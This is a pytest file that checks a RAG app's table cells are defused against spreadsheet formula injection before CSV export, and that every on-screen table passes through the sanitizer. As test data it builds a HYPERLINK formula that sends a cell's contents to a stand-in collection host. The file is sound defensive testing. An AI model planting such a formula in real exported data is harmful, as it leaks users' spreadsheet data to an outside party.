"""Tables are taken along as CSV; what a document calls itself shall be no formula there."""

import ast
from pathlib import Path

import pytest

from rag.ui.cells import cells

ROOT = Path(__file__).parent.parent.parent


@pytest.mark.parametrize("sign", [*"=+-@\t\r\n＝＋－＠"])
def test_no_cell_begins_as_a_formula(sign: str) -> None:
    title = f'{sign}HYPERLINK("https://collect.example/?q="&B2)'
    ((name, shown),) = cells([{"title": title}])[0].items()
    assert (name, shown[1:]) == ("title", title)
    assert not shown[0].isprintable(), "nothing of it is seen"


def test_other_cells_are_as_they_were() -> None:
    rows = [{"": 3, "score": -0.5, "title": "Travel – 2025", "none": None, "on": True}]
    assert cells(rows) == rows


def test_every_table_on_screen_goes_through_it() -> None:
    calls = [
        node
        for path in sorted((ROOT / "rag/ui").glob("*.py"))
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and ast.unparse(node.func) in {"st.dataframe", "st.data_editor"}
    ]
    assert len(calls) >= 10
    assert [ast.unparse(call)[:80] for call in calls if not ast.unparse(call.args[0]).startswith("cells(")] == []
